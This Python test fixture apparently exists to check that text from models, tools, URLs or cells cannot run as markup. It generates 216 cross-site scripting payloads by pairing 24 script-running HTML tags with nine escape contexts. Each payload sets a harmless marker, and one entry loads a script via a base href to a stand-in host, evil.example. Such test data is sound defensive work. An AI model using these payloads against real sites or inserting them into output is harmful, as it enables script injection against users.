"""What somebody who means harm may have a model, a tool, a URL or a cell say: each would run, were it ever markup.

`globalThis.pwned` is set in the page by whatever runs. Every tag that runs something, in every place it may break out of.
"""

RUNS = "globalThis.pwned=1"
TAGS = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src='javascript:parent.{}'></iframe>", "<a href='javascript:{}'>x</a>",
    "<details open ontoggle={}>x</details>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
    "<object data='javascript:{}'></object>", "<embed src='javascript:{}'>", "<marquee onstart={}>x</marquee>", "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<template><img src=x onerror={}></template>",
    "<button popovertarget=x onclick={}>x</button>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='//evil.example/'><script src=x></script>",
]  # fmt: skip
AROUND = [
    "{}",
    "\"'>{}",
    "</script>{}",
    "</style></title></textarea>{}",
    "<!--{}-->",
    "]]>{}",
    "${{{}}}`",
    "\\u003c{}",
    "\u2028{}\u0000",
]
HOSTILE = [around.format(tag.format(RUNS)) for around in AROUND for tag in TAGS]
"""216 payloads; the first 24 are every tag once."""
